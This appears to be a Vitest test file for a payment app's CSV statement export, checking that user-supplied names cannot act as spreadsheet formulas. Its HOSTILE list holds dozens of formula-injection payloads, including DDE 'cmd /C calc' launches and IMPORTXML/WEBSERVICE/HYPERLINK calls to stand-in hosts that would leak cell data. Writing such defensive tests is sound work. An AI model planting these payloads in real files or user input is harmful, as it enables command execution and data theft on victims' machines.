import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { expect, it } from 'vitest'
import { type Core, money, type PaperLine, type StatementOrder } from '#core'
import { csvOf } from '../../src/papers/csv.ts'
import { wordsIn } from '../../src/papers/words.ts'
import { loadTexts } from '../../src/platform/texts.ts'

const texts = loadTexts(join(import.meta.dirname, '../../locales'))

const HOSTILE = [
  ...['=HYPERLINK("http://evil.example","click")', '=1+1', '=cmd|"/C calc"!A0', '=DDE("cmd";"/C calc";"x")'],
  ...['+1+1', '+SUM(A1:A9)', "-2+3+cmd|' /C calc'!A0", '-1', '@SUM(1+9)*cmd|" /C calc"!A0', '@A1', '@'],
  ...['\t=1+1', '\r=1+1', '\n=1+1', '\0=1+1', '\u0000@x', ' =1+1', '\u200b=1+1', '\ufeff=1+1', '\u00a0=1+1'],
  ...['＝1+1', '＋1', '－1', '＠A1', '|calc', '%0A=1', '=', '+', '-', '\t', '\r', '\r\n=x', '\n@x'],
  ...['"=1+1', '","=1+1","', '";=1+1;"', 'a","=1+1', 'a\r\n=1+1', 'a\n=1', 'a,=1', "'=1", '"', '""', '"""'],
  ...['=IMPORTXML(CONCAT("http://e/?",A1),"//a")', '=WEBSERVICE("http://e")', '+cmd|x!A0', '-cmd|x!A0', '@cmd|x!A0'],
  ...['{=1}', '=1;2', '=\u202e1+1', '\u202e=1+1', 'Ana', '张=伟', '=张伟', 'Ω=1', '=‮x', '+4915112345', '-a', '=a,b'],
]

const eur = (minor: bigint) => money(minor, 'EUR')
const line = (name: string): PaperLine => ({
  at: new Date('2026-11-02T10:00:00Z'),
  kind: 'sent',
  counterparty: name,
  reference: 'T-7QK2-9FXD',
  note: name,
  moneyIn: eur(0n),
  moneyOut: eur(2_525n),
  fee: eur(-25n),
  rate: null,
  against: null,
  worth: eur(2_525n),
  balance: eur(7_475n),
  onHold: eur(0n),
})

const order: StatementOrder = {
  kind: 'statement',
  form: 'csv',
  id: 'x',
  code: '7QK2-9FXD-M3P8',
  owner: { name: '=EVIL()', okpayId: 'OK1QZPN2EN' },
  home: 'EUR',
  madeAt: new Date('2026-11-26T14:02:00Z'),
  from: '2026-11-01',
  to: '2026-11-26',
  until: new Date('2026-11-26T14:02:00Z'),
  parts: [{ currency: 'EUR', opening: eur(10_000n), closing: eur(7_475n), onHold: eur(0n), entries: 1n }],
}

async function fileOf(names: readonly string[], locale: 'en' | 'zh-CN' = 'en'): Promise<string> {
  const readStatement = async () => ({ ok: true, value: { lines: names.map(line), next: null } })
  let file = ''
  for await (const piece of csvOf({ readStatement } as unknown as Core, order, wordsIn(texts, locale))) file += piece
  return file
}

it('EXP-01 over fifty hostile names open as text, read by somebody else’s parser', async () => {
  expect(HOSTILE.length).toBeGreaterThanOrEqual(50)
  const file = await fileOf(HOSTILE)
  const rows: string[][] = parse(file, { bom: true, record_delimiter: '\r\n' })
  expect(rows).toHaveLength(HOSTILE.length + 4)
  for (const row of rows) expect(row).toHaveLength(14)
  for (const cell of rows.flat()) {
    // A number of ours may have a minus; whatever else begins like a formula does not stand there.
    if (!/^-?\d+\.\d+$/.test(cell)) expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@\t\r＝＋－＠|%]/u)
    expect(cell).not.toContain('\0')
  }
  HOSTILE.forEach((name, index) => {
    const cell = rows[index + 2]?.[2] ?? ''
    expect([name.replaceAll('\0', ''), `'${name.replaceAll('\0', '')}`]).toContain(cell)
  })
})

it('has amounts that can be added up, and the balance before and after in rows without any', async () => {
  const rows: Record<string, string>[] = parse(await fileOf(['Ben', 'Cleo']), { bom: true, columns: true })
  const out = rows.reduce((sum, row) => sum + Number(row['Out'] || 0), 0)
  expect(out).toBeCloseTo(50.5)
  expect(rows[0]).toMatchObject({ Kind: 'Opening balance', In: '', Out: '', Balance: '100.00' })
  expect(rows.at(-2)).toMatchObject({ Kind: 'Closing balance', Balance: '74.75' })
  expect(rows.at(-1)).toMatchObject({ Kind: 'Document', Reference: '7QK2-9FXD-M3P8', Counterparty: "'=EVIL()" })
  expect(rows[1]?.['Fee (included)']).toBe('-0.25')
})

it('speaks Chinese, with the mark by which spreadsheets know UTF-8', async () => {
  const file = await fileOf(['张小美'], 'zh-CN')
  expect(file.startsWith('\uFEFF日期（UTC）,类型,对方')).toBe(true)
  expect(file.endsWith('\r\n')).toBe(true)
})
